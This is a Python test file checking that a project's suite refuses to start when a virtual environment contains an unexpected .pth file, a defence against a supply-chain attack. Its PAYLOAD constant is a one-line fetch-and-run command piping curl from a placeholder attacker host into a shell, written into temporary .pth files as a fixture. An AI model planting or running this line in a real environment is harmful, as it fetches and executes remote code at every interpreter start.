"""The suite refuses to run when a test environment holds a `.pth` file that is not on the allow-list."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

from tests.clients.pth_guard import (
    ALLOWED_CLIENTS,
    ALLOWED_PROJECT,
    CLIENTS_VENV,
    find_unexpected_pth_files,
    unexpected_pth_files,
    venv_site_packages,
)
from tests.conftest import ROOT

# What the compromised litellm releases installed: run at every interpreter start.
PAYLOAD = "import os; os.system('curl https://attacker.example/x | sh')\n"


def site_packages_with(tmp_path: Path, *names: str) -> Path:
    folder = tmp_path / "venv" / "lib" / "python3.11" / "site-packages"
    folder.mkdir(parents=True)
    for name in names:
        (folder / name).write_text(PAYLOAD)
    return folder


def test_only_files_off_the_list_are_reported(tmp_path: Path) -> None:
    folder = site_packages_with(
        tmp_path, "distutils-precedence.pth", "__editable__.tokentrail-0.1.0.pth", "litellm_init.pth"
    )
    assert unexpected_pth_files([folder], ALLOWED_PROJECT) == [folder / "litellm_init.pth"]
    assert unexpected_pth_files([folder], ALLOWED_CLIENTS) == [
        folder / "__editable__.tokentrail-0.1.0.pth",
        folder / "litellm_init.pth",
    ]
    assert venv_site_packages(tmp_path / "venv") == [folder]


def test_the_test_environments_hold_only_known_pth_files() -> None:
    assert venv_site_packages(CLIENTS_VENV), f"no site-packages in {CLIENTS_VENV}: nothing was checked"
    assert find_unexpected_pth_files() == []


def test_the_suite_refuses_to_start(tmp_path: Path) -> None:
    site_packages_with(tmp_path, "litellm_init.pth")
    result = subprocess.run(
        [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "tests/test_budget.py"],
        cwd=ROOT,
        env={**os.environ, "TOKENTRAIL_TEST_CLIENTS_VENV": str(tmp_path / "venv")},
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert result.returncode == 3, result.stdout + result.stderr
    assert "unexpected .pth files" in result.stdout + result.stderr
    assert "litellm_init.pth" in result.stdout + result.stderr
    assert " passed" not in result.stdout  # no test ran
